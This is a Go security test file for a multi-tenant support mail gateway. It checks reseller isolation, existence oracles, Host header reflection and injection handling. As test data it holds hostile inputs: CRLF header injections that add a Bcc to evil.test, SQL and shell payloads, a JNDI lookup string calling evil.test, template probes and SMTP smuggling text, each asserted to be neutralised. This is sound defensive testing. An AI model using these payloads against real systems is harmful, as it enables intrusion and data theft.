package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"regexp"
	"strings"
	"testing"

	"casegate/cases"
)

// TestThreatTenants: what belongs to one reseller does not exist for another
// (T28 to T37, F14). The audit of each world looks for the canaries besides.
func TestThreatTenants(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	token := w.token(ann, c1)
	local, _, _ := strings.Cut(token, "@")
	notice := strings.Trim(w.find(ann, "["+c1+"]").field(t, "Message-ID"), "<>")
	at2 := []string{local + "@r2.test"}
	onlyR2 := func(t *testing.T, r *cases.MailRecord) {
		if r.Reseller != "r2" || len(r.Cases) != 1 || r.Cases[0].Reseller != "r2" || r.Cases[0].N == 1 {
			t.Errorf("it went to %s, %v; want into a new case of r2", r.Reseller, r.Cases)
		}
	}
	both := func(head string) letter {
		return letter{ip: honestIP, path: "both@acme.test", to: []string{intake2}, mail: sign("both@acme.test", with(head, w.write("both@acme.test", intake2, "Re: ["+c1+"] Printer", "text")))}
	}
	w.run(t, []attack{
		{"T28 C1's token at R2, by its person", letter{ip: honestIP, path: ann, to: at2, mail: w.signed(ann, at2[0], "Re", "text")}, "550 5.1.1", "", false, nil},
		{"T28 C1's token at R2, by R2's customer", letter{ip: honestIP, path: bob, to: at2, mail: w.signed(bob, at2[0], "Re", "text")}, "550 5.1.1", "", false, nil},
		{"T28 C1's number and Message-ID at R2's intake", both("In-Reply-To: <" + notice + ">\nReferences: <" + notice + ">\n"), "250", "", true, onlyR2},
		{"T28 F14 C2's number at R1, by R1's customer", letter{ip: honestIP, path: ann, to: []string{intake1}, mail: w.signed(ann, intake1, "Re: ["+c2+"]", "text")}, "250", "", true, otherCase},
		{"T28 F14 another's customer by a plus", letter{ip: honestIP, path: ann, to: []string{"support+bolt.test@r1.test"}, mail: w.signed(ann, "support+bolt.test@r1.test", "New", "text")}, "550 5.1.1", anyStatus, false, nil},
		{"T28 F14 filing with the other reseller", letter{ip: honestIP, path: ann, to: []string{intake2}, mail: w.signed(ann, intake2, "New", "text")}, "550 5.7.1", cases.MailRefused, false, nil},
		{"T28 control, C1's token at the gate", letter{ip: honestIP, path: ann, to: []string{token}, mail: w.signed(ann, token, "Re", "text")}, "250", "", true, w.entered(c1, ann)},
	})
	t.Run("T30 F14 search and count", func(t *testing.T) { w.in(t); w.search(t) })
	t.Run("T32 two resellers claim one customer", func(t *testing.T) {
		w.in(t)
		before := w.state()
		d, err := parseDirectory("claim.toml", []byte(strings.Replace(worldDirectory, `managed = [{ reseller = "r2" }]`, `managed = [{ reseller = "r2" }, { reseller = "r1" }]`, 1)))
		if err == nil {
			t.Errorf("a customer with two resellers at a time was read as %+v, want an error", d)
		}
		if w.state() != before {
			t.Error("the cases have changed")
		}
	})
	t.Run("T33 one mail to both tenants", func(t *testing.T) { w.in(t); w.bothTenants(t) })
	t.Run("T34 From of what goes out", func(t *testing.T) {
		w.in(t)
		w.drained()
		for _, m := range w.sink.all() {
			from, other := m.field(t, "From"), "r2.test"
			if strings.HasPrefix(m.field(t, "Subject"), "[RB-") {
				other = "r1.test"
			}
			if strings.Contains(from, other) || strings.Contains(m.path, other) || strings.Contains(m.text, "@"+other) {
				t.Errorf("a mail of one tenant has %s in it:\n%.1000s", other, m.text)
			}
		}
	})
	t.Run("T36 Host", func(t *testing.T) {
		w.in(t)
		for _, host := range []string{"evil.test", "r2.test", "r1.test\"><script>"} {
			for _, path := range []string{"/", "/leave/x"} {
				req, err := http.NewRequest("GET", "http://"+w.gate.status().Public+path, nil)
				if err != nil {
					t.Fatal(err)
				}
				req.Host = host
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					continue // refused by net/http itself
				}
				body, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if strings.Contains(string(body), host) || strings.Contains(resp.Header.Get("Location"), host) {
					t.Errorf("the answer to Host %q repeats it:\n%s", host, body)
				}
			}
		}
	})
	for number, why := range map[string]string{"T29": "there is no portal and no API yet", "T31": "there are no sessions to subscribe yet", "T37": "nothing is uploaded yet, and mail has no common store of equal files (see T33)"} {
		t.Run(number, func(t *testing.T) { t.Skip(why) })
	}
}

// search asks the operator's verbs for what another tenant has.
func (w *world) search(t *testing.T) {
	c := newClient(w.gate.Config.Data)
	for _, q := range []struct {
		filter cases.Filter
		want   int
	}{
		{cases.Filter{Reseller: "r1", Keyword: canary1}, 1}, {cases.Filter{Reseller: "r2", Keyword: canary1}, 0},
		{cases.Filter{Reseller: "r2", Keyword: canary2}, 1}, {cases.Filter{Reseller: "r1", Keyword: canary2}, 0},
		{cases.Filter{Reseller: "r1", Customer: "bolt.test"}, 0}, {cases.Filter{Reseller: "r9"}, 0},
	} {
		found, err := ask[*cases.Case](t.Context(), c, "case/list", q.filter)
		if err != nil || len(found) != q.want {
			t.Errorf("%+v finds %d cases, %v; want %d", q.filter, len(found), err, q.want)
		}
	}
	resp := request(t, "GET", "http://"+w.gate.status().Admin+"/metrics", "")
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"acme", "bolt", canary1, canary2, "evil.test"} {
		if strings.Contains(string(body), name) {
			t.Errorf("the metrics name %q", name)
		}
	}
}

// bothTenants: one transaction for both tenants makes two mails that know nothing
// of each other, also where the bytes are in files.
func (w *world) bothTenants(t *testing.T) {
	for _, size := range []int{10, 200_000} {
		mail := sign("both@acme.test", w.write("both@acme.test", "both@acme.test", "New", strings.Repeat("a line of text\n", size/15)))
		w.must("250", letter{ip: honestIP, path: "both@acme.test", to: []string{intake1, intake2}, mail: mail})
		records, err := w.gate.desk.Mails(context.Background(), "", 2)
		if err != nil || len(records) != 2 {
			t.Fatalf("%d records, %v; want two", len(records), err)
		}
		seen := map[cases.ResellerID]bool{}
		for _, r := range records {
			seen[r.Reseller] = true
			other := "r2.test"
			if r.Reseller == "r2" {
				other = "r1.test"
			}
			if len(r.Cases) != 1 || len(r.Envelope.Recipients) != 1 {
				t.Errorf("%s keeps %v and the recipients %v, want one of each", r.Reseller, r.Cases, r.Envelope.Recipients)
			}
			if raw := w.raw(t, r.ID); strings.Contains(raw, other) || !strings.Contains(raw, mail) {
				t.Errorf("the mail as %s keeps it names %s, or is not whole:\n%.2000s", r.Reseller, other, raw)
			}
			if all := fmt.Sprintf("%+v", *r); strings.Contains(all, other) {
				t.Errorf("the record of %s names %s:\n%s", r.Reseller, other, all)
			}
		}
		if !seen["r1"] || !seen["r2"] || size > 100_000 && (records[0].Blob == "" || records[0].Blob == records[1].Blob) {
			t.Errorf("the records are of %v with the blobs %q and %q, want one each of their own", seen, records[0].Blob, records[1].Blob)
		}
	}
}

// mailNumber is what differs between the same answers to two mails.
var mailNumber = regexp.MustCompile(`[0-9a-z]{13}`)

// TestThreatOracle: an answer does not tell what exists (T35, F14).
func TestThreatOracle(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	foreign := w.token(bob, c2)
	unknown := "case-" + strings.Repeat("abcdefg2", 6) + "@gate.test"
	mail := func(from, to, subject string) letter {
		return letter{ip: honestIP, path: from, to: []string{to}, mail: w.signed(from, to, subject, "text")}
	}
	for _, pair := range []struct {
		name string
		a, b letter
	}{
		{"customers", mail(ann, "support+bolt.test@r1.test", "New"), mail(ann, "support+nobody.test@r1.test", "New")},
		{"customers, of a stranger", mail(eve, "support+acme.test@r1.test", "New"), mail(eve, "support+nobody.test@r1.test", "New")},
		{"addresses", mail(eve, "nobody@r1.test", "New"), mail(eve, "nobody@r2.test", "New")},
		{"tokens", mail(ann, unknown, "New"), mail(ann, flipEnd(foreign), "New")},
		{"strangers", mail(eve, intake1, "New"), mail(bob, intake1, "New")},
		{"numbers of a stranger", mail(eve, intake1, "["+c1+"]"), mail(eve, intake1, "[RA-999]")},
		{"numbers of another's customer", mail(bob, intake1, "["+c1+"]"), mail(bob, intake1, "[RA-999]")},
		{"numbers of the other tenant", mail(ann, intake1, "["+c2+"]"), mail(ann, intake1, "[RB-999]")},
		{"contacts", mail("carl@acme.test", intake1, "New"), mail(eve, intake1, "New")},
		{"forged contacts", letter{to: []string{intake1}, mail: w.write(ann, intake1, "New", "text")}, letter{to: []string{intake1}, mail: w.write("carl@acme.test", intake1, "New", "text")}},
	} {
		t.Run("T35 "+pair.name, func(t *testing.T) {
			w.in(t)
			a, b := mailNumber.ReplaceAllString(w.send(pair.a), "ID"), mailNumber.ReplaceAllString(w.send(pair.b), "ID")
			if a != b {
				t.Errorf("the answers are\n%s\n%s\nwant the same", a, b)
			}
		})
	}
	t.Run("T35 timing", func(t *testing.T) { t.Skip("left to the measurement: no test depends on wall-clock speed") })
}

// flipEnd changes a token near its end.
func flipEnd(address string) string {
	at := strings.IndexByte(address, '@')
	return address[:at-5] + flipLetter(address[at-5:at-4]) + address[at-4:]
}

// TestThreatInjection: nothing that a mail brings becomes a field of a header, a
// line of a log, a template or a query (F10, F15, T39, T46).
func TestThreatInjection(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	w.gate.Level.Set(-4)
	const crlfBcc = "=0D=0ABcc:_x@evil.test=0D=0AX-Injected:_yes=0D=0A=0D=0Abody"
	for i, c := range []struct{ name, from, subject, head string }{
		{"F10 subject with CR LF in an encoded word", "Ann <ann@acme.test>", "=?utf-8?q?Hello" + crlfBcc + "?=", ""},
		{"F10 subject with a bare LF in base64", "Ann <ann@acme.test>", "=?utf-8?b?SGVsbG8KQmNjOiB4QGV2aWwudGVzdAo=?=", ""},
		{"F10 name with CR LF", "=?utf-8?q?Ann=0D=0ABcc:_x=0D=0AX-Injected:_yes=0D=0A=0D=0Abody?= <ann@acme.test>", "Hello", ""},
		{"F10 name with quotes and brackets", `"Ann\" <x>, \"" <ann@acme.test>`, "Hello", ""},
		{"F10 name with line separators", "=?utf-8?q?Ann=E2=80=A8Bcc:_x=C2=85?= <ann@acme.test>", "Hello=?utf-8?q?=E2=80=A8=C2=85=0B=0C?=", ""},
		{"F10 file name", "Ann <ann@acme.test>", "Hello", "Content-Type: text/plain; name*=utf-8''a%0D%0ABcc:%20x@evil.test.txt\nContent-Disposition: attachment; filename*=utf-8''a%0D%0ABcc:%20x@evil.test.txt\n"},
		{"F10 Message-ID and References", "Ann <ann@acme.test>", "Hello", "References: <a\"b> <a b>\n <c@d\te>\nIn-Reply-To: =?utf-8?q?<x=0D=0ABcc:x@evil.test>?=\n"},
		{"F15 template", "Ann <ann@acme.test>", "{{.}} {{range .}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}", ""},
		{"F15 SQL, shell, log", "Ann <ann@acme.test>", "'; DROP TABLE cases;-- $(touch /tmp/casegate-was-here) `id` ${jndi:ldap://evil.test/a} %s%n%x \\x1b[31m", ""},
		{"F15 IMAP and JSON", "Ann <ann@acme.test>", `" } ] * 1 FETCH (BODY[]) {3} \" , "a": 1`, ""},
		{"F15 terminal", "Ann <ann@acme.test>", "=?utf-8?q?=1B[2J=1B]0;title=07=08=08=9B31m?=", ""},
		{"T39 text with dots", "Ann <ann@acme.test>", "Dots", "Content-Transfer-Encoding: base64\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w.in(t)
			text := "the text"
			if strings.HasPrefix(c.name, "T39") {
				// "a\n.\nb\r.\rc\r\n.\r\nMAIL FROM:<x@evil.test>\r\n", as nobody could send it otherwise.
				text = "YQouCmINLg1jDQouDQpNQUlMIEZST006PHhAZXZpbC50ZXN0Pg0KUkNQVCBUTzo8eEBldmlsLnRlc3Q+DQpEQVRBDQo="
			}
			from := c.from
			if i%2 > 0 { // nobody is told of more than ten cases of one sender in an hour
				from = strings.Replace(from, ann, "alice@acme.test", 1)
			}
			w.drained()
			before := len(w.sink.all())
			w.must("250", letter{ip: honestIP, path: ann, to: []string{intake1}, mail: sign(ann, with(c.head, w.write(from, intake1, c.subject, text)))})
			w.drained()
			all := w.sink.all()
			if len(all) < before+2 {
				t.Errorf("%d mails went out, want one to the sender and one to the agent", len(all)-before)
			}
			for _, m := range all[before:] {
				w.plainHeader(t, m)
			}
		})
	}
	t.Run("F15 T46 log", func(t *testing.T) {
		w.in(t)
		for line := range strings.Lines(w.log.String()) {
			if !strings.HasPrefix(line, "time=") || strings.ContainsAny(line, "\x00\x07\x08\x1b") {
				t.Errorf("the log has the line %q", line)
			}
		}
		if _, err := os.Stat("/tmp/casegate-was-here"); err == nil {
			t.Error("a command in a subject was executed")
		}
	})
}

// TestThreatNames: names of the directory are text in a header, whatever is in
// them (F10).
func TestThreatNames(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(c *config) {
		text := worldDirectory
		for _, name := range []string{"Acme", "R1 Support", "Desk One", "Bolt"} {
			text = strings.Replace(text, `name = "`+name+`"`, `name = "`+name+`\r\nBcc: x@evil.test\r\nX-Injected: yes\r\n\r\n\u2028\u202e\u0000body"`, 1)
		}
		if err := os.WriteFile(c.Directory.File, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("F10 names of the directory", func(t *testing.T) {
		w.in(t)
		w.token(desk1, c1)
		w.drained()
		for _, m := range w.sink.all() {
			w.plainHeader(t, m)
		}
	})
}

// plainHeader wants a mail of ours to have each field once, none that it was
// given, and no control character in them.
func (w *world) plainHeader(t *testing.T, m sunk) {
	t.Helper()
	head, _, _ := strings.Cut(m.text, "\n\n")
	if found := injected.FindString(head); found != "" {
		t.Errorf("a field %s went out:\n%s", found, head)
	}
	for _, name := range []string{"From", "To", "Subject", "Message-ID", "Reply-To", "Date", "MIME-Version", "Content-Type"} {
		m.field(t, name) // exactly one
	}
	if strings.ContainsAny(head, "\x00\x07\x08\x0b\x0c\x1b\x7f\u2028\u202e") {
		t.Errorf("a control character is in the header that went out: %q", head)
	}
}

// injected are fields that only foreign text could have made.
var injected = regexp.MustCompile(`(?mi)^(Bcc|X-Injected):`)
